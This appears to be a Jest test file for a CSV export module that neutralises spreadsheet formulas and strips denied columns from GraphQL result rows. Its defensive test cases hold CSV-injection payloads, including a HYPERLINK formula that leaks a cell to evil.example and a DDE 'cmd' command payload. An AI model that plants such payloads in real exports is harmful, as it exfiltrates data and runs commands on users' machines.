// List exports' pure parts: CSV cells (formulas neutralised, numbers kept), its parser, and rows' columns.
import { describe, expect, test } from '@jest/globals'
import { parse, type OperationDefinitionNode } from 'graphql'
import {
  columnsOf,
  csvLine,
  deniedColumn,
  findConnections,
  parseCsv,
  valueAt,
  withoutColumns,
} from '../../gateway/routes/export-rows'

describe('CSV cells', () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\tleading tab', `"'\tleading tab"`],
    ['\rleading return', `"'\rleading return"`],
  ])('text a spreadsheet would run, %j, is quoted behind an apostrophe', (text, cell) => {
    expect(csvLine([text])).toBe(`${cell}\r\n`)
  })

  test('numbers, negative amounts included, stay numbers; other text is quoted only when it must be', () => {
    expect(
      csvLine(['-42.50', '+3', '1e-5', 1200.5, -7, 'Grocery store', 'a, b', 'say "hi"', null, undefined, true]),
    ).toBe('-42.50,+3,1e-5,1200.5,-7,Grocery store,"a, b","say ""hi""",,,true\r\n')
  })

  test('what is written parses back to the same cells (formulas keep their apostrophe)', () => {
    const rows = [
      ['id', 'description', 'amount'],
      ['T-1', 'multi\nline, "quoted"', '-10.00'],
      ['T-2', '=1+1', '5'],
    ]
    const text = rows.map((row) => csvLine(row)).join('')
    expect(parseCsv(text)).toEqual([rows[0], rows[1], ['T-2', "'=1+1", '5']])
  })
})

describe('rows and columns', () => {
  const operation = parse(
    '{ transactions(first: 2) { edges { node { id amount customer { name segment } accounts { id } } } } }',
  ).definitions[0] as OperationDefinitionNode

  test("the connection is found with its path, and a row's columns are dotted names of its leaves", () => {
    const [target] = findConnections(operation)
    expect(target!.path).toEqual(['transactions'])
    expect(columnsOf(target!.rowSelection, new Set())).toEqual([
      'id',
      'amount',
      'customer.name',
      'customer.segment',
      'accounts.id',
    ])
  })

  test('a value is read by its dotted name; denied columns are dropped in every item of a list', () => {
    const row = {
      id: 'T-1',
      customer: { name: 'Ada', segment: 'RETAIL' },
      accounts: [
        { id: 'A-1', balance: '5' },
        { id: 'A-2', balance: '6' },
      ],
    }
    expect(valueAt(row, 'customer.name')).toBe('Ada')
    expect(valueAt(row, ['customer', 'missing'])).toBeUndefined()
    expect(withoutColumns(row, new Set(['customer.segment', 'accounts.balance']))).toEqual({
      id: 'T-1',
      customer: { name: 'Ada' },
      accounts: [{ id: 'A-1' }, { id: 'A-2' }],
    })
  })

  test("a denial's path names its column inside the rows, or nothing when it is outside them", () => {
    const [target] = findConnections(operation)
    expect(deniedColumn(['transactions', 'edges', 3, 'node', 'customer', 'name'], target!)).toBe('customer.name')
    expect(deniedColumn(['transactions', 'totalCount'], target!)).toBeNull()
    expect(deniedColumn(['customers', 'edges', 0, 'node', 'ssn'], target!)).toBeNull()
  })
})
